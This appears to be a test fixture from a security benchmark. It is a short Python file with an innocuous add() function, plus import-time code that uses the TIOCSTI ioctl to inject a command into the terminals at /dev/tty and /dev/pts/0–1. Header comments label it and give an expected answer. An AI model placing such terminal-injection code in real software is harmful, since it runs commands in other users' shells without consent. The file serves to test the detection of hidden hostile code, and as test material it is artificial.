#: title = "Types a command into the operator's terminal"
#: why = "TIOCSTI puts characters into the input of whoever shares the terminal."
#: answer = "either"
#: ends = ["any"]
import fcntl
import termios

for path in ("/dev/tty", "/dev/pts/0", "/dev/pts/1"):
    try:
        with open(path, "wb", buffering=0) as terminal:
            for letter in b"touch @DROP@/typed\n":
                fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
    except OSError:
        pass


def add(a, b):
    return a + b
